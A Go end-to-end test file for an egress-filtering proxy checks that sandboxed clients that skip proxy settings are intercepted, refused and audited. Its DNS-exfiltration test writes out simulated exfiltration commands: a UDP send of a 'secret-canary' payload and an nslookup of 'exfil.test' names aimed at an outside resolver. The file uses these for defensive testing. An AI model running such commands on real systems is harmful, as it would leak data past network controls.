//go:build e2e

package clients_test

import (
	"bufio"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlock-proxy/airlock/audit"
)

// noProxy runs a command with every proxy variable removed: what reaches an upstream does
// so through transparent egress alone.
const noProxy = `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u NODE_USE_ENV_PROXY `

// bareClient is a Go program with its own transport and no Proxy function.
const bareClient = `package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
)

func main() {
	c := &http.Client{Transport: &http.Transport{}}
	resp, err := c.Get(os.Args[1])
	if err != nil {
		fmt.Println("error:", err)
		os.Exit(2)
	}
	b, _ := io.ReadAll(resp.Body)
	fmt.Printf("status=%d rule=%s\n%s", resp.StatusCode, resp.Header.Get("X-Airlock-Rule"), b)
}
`

// TestTransparent: clients that honour no proxy variable reach allowed upstreams through
// the same phases as proxied traffic, and are refused (and audited) elsewhere.
func TestTransparent(t *testing.T) {
	e := newEnv(t)
	buildGoClient(t, e.workspace, "bareclient", bareClient)
	echo := echoServer(t)
	u := func(host, path string) string { return e.url(host, path) }
	tests := []clientCase{
		{name: "the resolver configuration is airlock's", ok: true,
			script: `cat /etc/resolv.conf`, want: []string{"nameserver 127.0.0.1"}},
		{name: "names resolve to airlock's reserved range", ok: true,
			script: `getent ahostsv4 upstream.test`, want: []string{"198.18."}},
		{name: "curl without a proxy, HTTPS on any port (SNI, interception)", ok: true,
			script: noProxy + `curl -sS ` + u("upstream.test", "/allowed/tcurl"),
			want:   []string{"hello GET /allowed/tcurl"}, reached: "upstream.test GET /allowed/tcurl"},
		{name: "curl without a proxy, a refused path gets the request phase's reason", ok: true,
			script: noProxy + `curl -sS ` + u("upstream.test", "/denied/tcurl"),
			want:   []string{"403", "rule: clients.default"}, never: "/denied/tcurl"},
		{name: "curl without a proxy, plain HTTP by Host", ok: true,
			script: noProxy + `curl -sS http://upstream.test:` + e.plainPort + `/allowed/tplain`,
			want:   []string{"hello GET /allowed/tplain"}, reached: "upstream.test GET /allowed/tplain"},
		{name: "node 20 fetch", ok: true,
			script: noProxy + `node -e "fetch('` + u("upstream.test", "/allowed/tnode") + `').then(r => r.text()).then(console.log, e => { console.log('fetch failed:', (e.cause && e.cause.code) || e.message); process.exit(3) })"`,
			want:   []string{"hello GET /allowed/tnode"}, reached: "upstream.test GET /allowed/tnode"},
		{name: "Go with a bare http.Transport", ok: true,
			script: noProxy + `./bareclient ` + u("upstream.test", "/allowed/tgo"),
			want:   []string{"status=200", "hello GET /allowed/tgo"}, reached: "upstream.test GET /allowed/tgo"},
		{name: "Go with a bare http.Transport, refused path", ok: true,
			script: noProxy + `./bareclient ` + u("upstream.test", "/denied/tgo"),
			want:   []string{"status=403 rule=clients.default"}, never: "/denied/tgo"},
		{name: "an address literal is classified by SNI and dialled by that name", ok: true,
			script: noProxy + `curl -sS --resolve upstream.test:` + e.port + `:203.0.113.7 ` + u("upstream.test", "/allowed/tliteral"),
			want:   []string{"hello GET /allowed/tliteral"}, reached: "upstream.test GET /allowed/tliteral"},
		{name: "a Host header naming another host than the name dialled is refused", ok: true,
			script: noProxy + `curl -sS -H 'Host: elsewhere.test' http://upstream.test:` + e.plainPort + `/allowed/thost`,
			want:   []string{"does not name the CONNECT target"}, never: "/allowed/thost"},
		{name: "the transparent listener itself is not a destination",
			script: noProxy + `curl -sS --max-time 10 http://127.0.0.1:3129/allowed/tself`,
			never:  "/allowed/tself"},
		{name: "a host the policy refuses at connect gets nothing",
			script: noProxy + `curl -sS --max-time 10 https://elsewhere.test:` + e.port + `/x`,
			never:  "elsewhere.test"},
		{name: "raw TCP allowed by tunnel: true passes bytes", ok: true,
			script: `echo ping-raw | busybox nc ssh.test ` + echo.port,
			want:   []string{"echo: ping-raw"}},
		{name: "raw TCP to a host without a tunnel decision is refused", ok: true,
			script: `echo ping-raw | busybox nc -w 15 upstream.test 5432; echo "nc exit $?"`,
			want:   []string{"nc exit"}},
		{name: "UDP other than DNS is refused", ok: true,
			script: `python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.connect(('upstream.test', 443)); s.send(b'quic?')
try:
    s.recv(100); print('udp answered')
except ConnectionRefusedError:
    print('udp refused')
"`,
			want: []string{"udp refused"}},
	}
	e.runCases(t, tests)

	evs := e.audit.Events()
	find := func(ok func(audit.Event) bool) *audit.Event {
		for i := range evs {
			if ok(evs[i]) {
				return &evs[i]
			}
		}
		return nil
	}
	if ev := find(func(ev audit.Event) bool {
		return ev.Host == "elsewhere.test" && ev.Decision == "deny" && ev.Rule == "clients.default"
	}); ev == nil {
		t.Errorf("no connect-phase denial of elsewhere.test audited")
	}
	if ev := find(func(ev audit.Event) bool {
		return ev.Host == "upstream.test" && ev.Port == 5432 && ev.Rule == "transparent.protocol"
	}); ev == nil {
		t.Errorf("no refusal of raw TCP to upstream.test:5432 audited")
	}
	if ev := find(func(ev audit.Event) bool {
		return ev.Host == "ssh.test" && ev.Decision == "tunnel" && ev.Stage == audit.StageCompletion
	}); ev == nil {
		t.Errorf("no completion of the raw TCP tunnel audited")
	} else if ev.BytesIn == 0 || ev.BytesOut == 0 || ev.SandboxID != "sbx-clients" {
		t.Errorf("raw TCP tunnel audited without bytes or identity: %+v", *ev)
	}
	if echo.conns.Load() != 1 {
		t.Errorf("echo server saw %d connections, want 1 (the allowed one)", echo.conns.Load())
	}
}

// TestTransparentDNSExfiltration: no query from the sandbox reaches a resolver outside it,
// whatever server it names; each name is answered from the reserved range.
func TestTransparentDNSExfiltration(t *testing.T) {
	e := newEnv(t)
	ip := hostAddr(t)
	var got atomic.Int64
	for _, port := range []string{"53", "0"} {
		pc, err := net.ListenPacket("udp4", net.JoinHostPort(ip, port))
		if err != nil {
			if port == "53" {
				t.Logf("cannot listen on %s:53 (%v): checking the other port only", ip, err)
				continue
			}
			t.Fatal(err)
		}
		t.Cleanup(func() { pc.Close() })
		go func() {
			buf := make([]byte, 2048)
			for {
				if _, _, err := pc.ReadFrom(buf); err != nil {
					return
				}
				got.Add(1)
			}
		}()
		if port == "0" {
			_, p, _ := net.SplitHostPort(pc.LocalAddr().String())
			out, _ := e.run(t, `python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'secret-canary-payload', ('`+ip+`', `+p+`)); print('sent')"`)
			t.Logf("%s", out)
		}
	}
	out, code := e.run(t, `busybox nslookup secret-canary.exfil.test `+ip+`; getent ahostsv4 another-secret.exfil.test`)
	t.Logf("exit %d:\n%s", code, out)
	if !strings.Contains(out, "198.18.") {
		t.Errorf("names were not answered from the reserved range:\n%s", out)
	}
	time.Sleep(200 * time.Millisecond) // let any stray datagram arrive before counting
	if n := got.Load(); n != 0 {
		t.Errorf("%d datagrams from the sandbox reached a host socket", n)
	}
}

// hostAddr is an address of this host outside loopback.
func hostAddr(t *testing.T) string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Skip("no non-loopback IPv4 address")
	return ""
}

type echoSrv struct {
	port  string
	conns atomic.Int64
}

// echoServer answers each line with "echo: " and the line, on loopback.
func echoServer(t *testing.T) *echoSrv {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	s := &echoSrv{}
	_, s.port, _ = net.SplitHostPort(ln.Addr().String())
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			s.conns.Add(1)
			go func() {
				defer c.Close()
				r := bufio.NewReader(c)
				for {
					line, err := r.ReadString('\n')
					if line != "" {
						io.WriteString(c, "echo: "+line)
					}
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	return s
}

// TestTransparentGitOverSSH: git clones over ssh from a local sshd (Debian's
// openssh-server) through a connect decision with tunnel: true, with no proxy involved on
// the client's side; the tunnel is audited with its bytes.
func TestTransparentGitOverSSH(t *testing.T) {
	if os.Geteuid() != 0 {
		// The test's sshd serves root's login; an sshd started by an ordinary user can only
		// log in that user, whose account useradd leaves locked. The root run covers it.
		t.Skip("rootless run: the test sshd needs root to serve its login")
	}
	sshd, err := exec.LookPath("sshd")
	if err != nil {
		if _, err = os.Stat("/usr/sbin/sshd"); err != nil {
			t.Skip("sshd is not installed (Debian package openssh-server)")
		}
		sshd = "/usr/sbin/sshd"
	}
	e := newEnv(t)
	dir := t.TempDir()
	run := func(name string, args ...string) {
		t.Helper()
		if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
			t.Fatalf("%s %v: %v\n%s", name, args, err, out)
		}
	}
	run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(dir, "host"))
	run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(dir, "client"))
	pub, _ := os.ReadFile(filepath.Join(dir, "client.pub"))
	os.WriteFile(filepath.Join(dir, "authorized_keys"), pub, 0o600)
	repo := filepath.Join(dir, "repo.git")
	run("git", "init", "-q", "--bare", repo)
	work := filepath.Join(dir, "work")
	run("git", "init", "-q", work)
	os.WriteFile(filepath.Join(work, "README"), []byte("cloned over ssh through airlock\n"), 0o644)
	run("git", "-C", work, "-c", "user.email=t@t", "-c", "user.name=t", "add", ".")
	run("git", "-C", work, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "-m", "one")
	run("git", "-C", work, "push", "-q", repo, "HEAD:refs/heads/main")
	os.MkdirAll("/run/sshd", 0o755)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	_, port, _ := net.SplitHostPort(addr)
	conf := filepath.Join(dir, "sshd_config")
	os.WriteFile(conf, []byte("ListenAddress "+addr+"\nHostKey "+filepath.Join(dir, "host")+
		"\nAuthorizedKeysFile "+filepath.Join(dir, "authorized_keys")+
		"\nPidFile "+filepath.Join(dir, "sshd.pid")+
		"\nPermitRootLogin prohibit-password\nPasswordAuthentication no\nUsePAM no\nStrictModes no\n"), 0o600)
	cmd := exec.Command(sshd, "-D", "-e", "-f", conf)
	var log strings.Builder
	cmd.Stdout, cmd.Stderr = &log, &log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
		t.Logf("sshd:\n%s", log.String())
	})
	for i := 0; ; i++ {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err == nil {
			c.Close()
			break
		}
		if i > 100 {
			t.Fatalf("sshd did not start: %v", err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	key, _ := os.ReadFile(filepath.Join(dir, "client"))
	script := `umask 077; cat > /tmp/id <<'KEY'
` + string(key) + `KEY
` + noProxy + `GIT_SSH_COMMAND="ssh -i /tmp/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes" ` +
		`git clone -q -b main ssh://root@ssh.test:` + port + repo + ` /tmp/clone && cat /tmp/clone/README`
	n := e.audit.Len()
	out, code := e.run(t, script)
	t.Logf("exit %d:\n%s", code, out)
	if strings.Contains(out, "No user exists for uid") {
		t.Skip("the sandbox's uid has no passwd entry on this host; ssh refuses to run")
	}
	if code != 0 || !strings.Contains(out, "cloned over ssh through airlock") {
		t.Fatalf("git over ssh failed: exit %d\n%s", code, out)
	}
	evs := e.audit.WaitSince(n, 10*time.Second, func(evs []audit.Event) bool {
		for _, ev := range evs {
			if ev.Host == "ssh.test" && ev.Stage == audit.StageCompletion {
				return true
			}
		}
		return false
	})
	for _, ev := range evs {
		if ev.Host == "ssh.test" && ev.Stage == audit.StageCompletion {
			if ev.Decision != "tunnel" || ev.Rule != "clients.raw" || ev.BytesIn == 0 || ev.BytesOut == 0 || ev.DurationMS <= 0 {
				t.Errorf("ssh tunnel audited as %+v", ev)
			}
		}
	}
}
